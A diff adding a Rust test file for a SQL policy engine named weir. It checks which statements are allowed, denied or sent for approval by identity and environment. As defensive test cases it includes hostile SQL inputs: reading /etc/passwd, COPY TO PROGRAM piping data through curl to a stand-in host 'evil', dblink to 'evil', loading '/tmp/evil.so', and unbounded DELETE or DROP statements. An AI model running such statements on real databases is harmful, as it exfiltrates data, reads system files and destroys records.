@@ -1,0 +1,368 @@
+//! The built-in default policy, table-driven: SQL, identity, environment → outcome and rule.
+#![allow(
+    clippy::unwrap_used,
+    clippy::expect_used,
+    clippy::panic,
+    clippy::indexing_slicing
+)]
+
+use weir_analyze::Analyzer;
+use weir_policy::{Identity, IdentityKind, Policy, TargetInfo, Verdict};
+
+fn who(name: &str, kind: IdentityKind, groups: &[&str]) -> Identity {
+    Identity {
+        name: name.into(),
+        kind,
+        groups: groups.iter().map(|g| g.to_string()).collect(),
+        attributes: Default::default(),
+        source: "static",
+    }
+}
+
+fn outcome(
+    policy: &Policy,
+    analyzer: &Analyzer,
+    id: &Identity,
+    env: &str,
+    sql: &str,
+) -> Vec<String> {
+    let target = TargetInfo {
+        name: "shop".into(),
+        environment: env.into(),
+        sensitivity: [("public.customers".to_string(), "pii".to_string())].into(),
+    };
+    let session = policy.session(id, &target).unwrap();
+    let analysis = analyzer.analyze(sql.as_bytes()).unwrap();
+    policy
+        .decide(&session, &analysis)
+        .verdicts
+        .iter()
+        .map(|v| match v {
+            Verdict::Allow => "allow".to_string(),
+            Verdict::Deny { rule, .. } => format!("deny {rule}"),
+            Verdict::RequireApproval { rule, .. } => format!("approve {rule}"),
+            Verdict::AllowBounded { rows, rule } => format!("bound {rows} {rule}"),
+        })
+        .collect()
+}
+
+#[test]
+fn default_policy_cases() {
+    let policy = Policy::load(true, "weir-admins", &[]).unwrap();
+    let analyzer = Analyzer::new();
+    let dev = who("alice", IdentityKind::Human, &["developers"]);
+    let agent = who("claude", IdentityKind::Agent, &["agents"]);
+    let admin = who("root", IdentityKind::Human, &["weir-admins"]);
+    let cases: &[(&Identity, &str, &str, &str)] = &[
+        // Ordinary work flows everywhere.
+        (
+            &dev,
+            "production",
+            "SELECT * FROM customers WHERE id = 1",
+            "allow",
+        ),
+        (
+            &dev,
+            "production",
+            "UPDATE orders SET status = 'paid' WHERE id = 7",
+            "allow",
+        ),
+        (&dev, "production", "BEGIN", "allow"),
+        (&dev, "production", "SET search_path = public", "allow"),
+        // No DROP / TRUNCATE in production; fine in development.
+        (
+            &dev,
+            "production",
+            "DROP TABLE orders",
+            "deny weir.no-drop-in-production",
+        ),
+        (
+            &dev,
+            "production",
+            "TRUNCATE orders",
+            "deny weir.no-drop-in-production",
+        ),
+        (&dev, "development", "DROP TABLE orders", "allow"),
+        // UPDATE / DELETE need an effective WHERE in production, however it hides.
+        (
+            &dev,
+            "production",
+            "DELETE FROM orders",
+            "deny weir.where-required-in-production",
+        ),
+        (
+            &dev,
+            "production",
+            "DELETE FROM orders WHERE true",
+            "deny weir.where-required-in-production",
+        ),
+        (
+            &dev,
+            "production",
+            "UPDATE orders SET total_cents = 0 WHERE 1 = 1",
+            "deny weir.where-required-in-production",
+        ),
+        (
+            &dev,
+            "production",
+            "DELETE FROM orders WHERE id = id",
+            "deny weir.where-required-in-production",
+        ),
+        (
+            &dev,
+            "production",
+            "WITH x AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM x",
+            "deny weir.where-required-in-production",
+        ),
+        (
+            &dev,
+            "production",
+            "EXPLAIN ANALYZE DELETE FROM orders",
+            "deny weir.where-required-in-production",
+        ),
+        (
+            &dev,
+            "production",
+            "PREPARE p AS DELETE FROM orders",
+            "deny weir.where-required-in-production",
+        ),
+        (&dev, "development", "DELETE FROM orders", "allow"),
+        // DDL in production needs approval.
+        (
+            &dev,
+            "production",
+            "ALTER TABLE orders ADD COLUMN note text",
+            "approve weir.ddl-needs-approval-in-production",
+        ),
+        (
+            &dev,
+            "production",
+            "CREATE TABLE t2 AS SELECT * FROM orders",
+            "approve weir.ddl-needs-approval-in-production",
+        ),
+        (
+            &dev,
+            "production",
+            "GRANT SELECT ON customers TO public",
+            "approve weir.ddl-needs-approval-in-production",
+        ),
+        (
+            &dev,
+            "staging",
+            "ALTER TABLE orders ADD COLUMN note text",
+            "allow",
+        ),
+        // Agents are read-only in production.
+        (&agent, "production", "SELECT count(*) FROM orders", "allow"),
+        (
+            &agent,
+            "production",
+            "INSERT INTO orders VALUES (1)",
+            "approve weir.agents-read-only-in-production",
+        ),
+        (
+            &agent,
+            "production",
+            "WITH x AS (UPDATE orders SET status = 'x' WHERE id = 1 RETURNING 1) SELECT * FROM x",
+            "approve weir.agents-read-only-in-production",
+        ),
+        (
+            &agent,
+            "development",
+            "INSERT INTO orders VALUES (1)",
+            "allow",
+        ),
+        // Server files and programs: denied everywhere except to the admin group.
+        (
+            &dev,
+            "development",
+            "SELECT pg_read_file('/etc/passwd')",
+            "deny weir.server-files-and-programs",
+        ),
+        (
+            &dev,
+            "development",
+            "SELECT pg_catalog.pg_read_file('/etc/passwd')",
+            "deny weir.server-files-and-programs",
+        ),
+        (
+            &dev,
+            "development",
+            "COPY orders TO PROGRAM 'curl -d @- evil'",
+            "deny weir.server-files-and-programs",
+        ),
+        (
+            &dev,
+            "development",
+            "COPY orders FROM '/etc/passwd'",
+            "deny weir.server-files-and-programs",
+        ),
+        (
+            &dev,
+            "development",
+            "SELECT lo_export(1234, '/tmp/x')",
+            "deny weir.server-files-and-programs",
+        ),
+        (
+            &dev,
+            "development",
+            "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)",
+            "deny weir.server-files-and-programs",
+        ),
+        (
+            &dev,
+            "development",
+            "DO LANGUAGE plpython3u $$ import os $$",
+            "deny weir.server-files-and-programs",
+        ),
+        (
+            &dev,
+            "development",
+            "LOAD '/tmp/evil.so'",
+            "deny weir.server-files-and-programs",
+        ),
+        (
+            &admin,
+            "development",
+            "COPY orders TO '/tmp/orders.csv'",
+            "allow",
+        ),
+        (&dev, "development", "COPY orders TO STDOUT", "allow"),
+        // Code whose effect Weir cannot see.
+        (
+            &dev,
+            "production",
+            "DO $$ BEGIN DELETE FROM orders; END $$",
+            "approve weir.unknown-effect-needs-approval-in-production",
+        ),
+        (
+            &dev,
+            "production",
+            "CALL cleanup()",
+            "approve weir.unknown-effect-needs-approval-in-production",
+        ),
+        (
+            &dev,
+            "development",
+            "DO $$ BEGIN PERFORM 1; END $$",
+            "allow",
+        ),
+        // Changing who the session is.
+        (
+            &dev,
+            "production",
+            "SET ROLE postgres",
+            "approve weir.session-identity-needs-approval-in-production",
+        ),
+        (
+            &dev,
+            "production",
+            "SET session_replication_role = replica",
+            "approve weir.session-identity-needs-approval-in-production",
+        ),
+    ];
+    let mut failures = Vec::new();
+    for (id, env, sql, want) in cases {
+        let got = outcome(&policy, &analyzer, id, env, sql);
+        if got != vec![want.to_string()] {
+            failures.push(format!(
+                "{} in {env}: {sql}\n   want {want}\n   got  {got:?}",
+                id.name
+            ));
+        }
+    }
+    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
+}
+
+#[test]
+fn every_statement_of_a_multi_statement_string_is_decided() {
+    let policy = Policy::load(true, "weir-admins", &[]).unwrap();
+    let analyzer = Analyzer::new();
+    let dev = who("alice", IdentityKind::Human, &[]);
+    let got = outcome(
+        &policy,
+        &analyzer,
+        &dev,
+        "production",
+        "SELECT 1; DROP TABLE orders; SELECT 2",
+    );
+    assert_eq!(
+        got,
+        vec!["allow", "deny weir.no-drop-in-production", "allow"]
+    );
+}
+
+#[test]
+fn an_invalid_policy_names_file_and_line() {
+    let dir = std::env::temp_dir().join(format!("weir-policy-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let bad = dir.join("bad.cedar");
+    std::fs::write(
+        &bad,
+        "// ok\n\npermit(principal, action, resource)\nwhen { context.no_such_fact };\n",
+    )
+    .unwrap();
+    let err = Policy::load(true, "a", std::slice::from_ref(&bad))
+        .err()
+        .unwrap()
+        .to_string();
+    assert!(err.contains("bad.cedar:4"), "{err}");
+    std::fs::write(&bad, "permit(principal, action, resource)\nwhen { ;\n").unwrap();
+    let err = Policy::load(true, "a", std::slice::from_ref(&bad))
+        .err()
+        .unwrap()
+        .to_string();
+    assert!(err.contains("bad.cedar:2"), "{err}");
+    std::fs::remove_dir_all(&dir).unwrap();
+}
+
+#[test]
+fn operator_rules_combine_deny_over_approval_over_bound() {
+    let dir = std::env::temp_dir().join(format!("weir-policy-b-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let f = dir.join("ops.cedar");
+    std::fs::write(
+        &f,
+        r#"@id("ops.bound-updates") @bound("1000")
+permit(principal, action == Weir::Action::"update", resource);
+@id("ops.no-pii-for-agents") @reason("agents never read PII")
+forbid(principal, action, resource) when { principal.kind == "agent" && context.sensitivity.contains("pii") };
+"#,
+    )
+    .unwrap();
+    let policy = Policy::load(true, "weir-admins", &[f]).unwrap();
+    let analyzer = Analyzer::new();
+    let dev = who("alice", IdentityKind::Human, &[]);
+    let agent = who("claude", IdentityKind::Agent, &[]);
+    assert_eq!(
+        outcome(
+            &policy,
+            &analyzer,
+            &dev,
+            "production",
+            "UPDATE orders SET status = 'x' WHERE id > 5"
+        ),
+        vec!["bound 1000 ops.bound-updates"]
+    );
+    assert_eq!(
+        outcome(
+            &policy,
+            &analyzer,
+            &agent,
+            "development",
+            "SELECT email FROM customers"
+        ),
+        vec!["deny ops.no-pii-for-agents"]
+    );
+    assert_eq!(
+        outcome(
+            &policy,
+            &analyzer,
+            &agent,
+            "production",
+            "UPDATE customers SET email = '' WHERE id = 1"
+        ),
+        vec!["deny ops.no-pii-for-agents"]
+    );
+    std::fs::remove_dir_all(&dir).unwrap();
+}
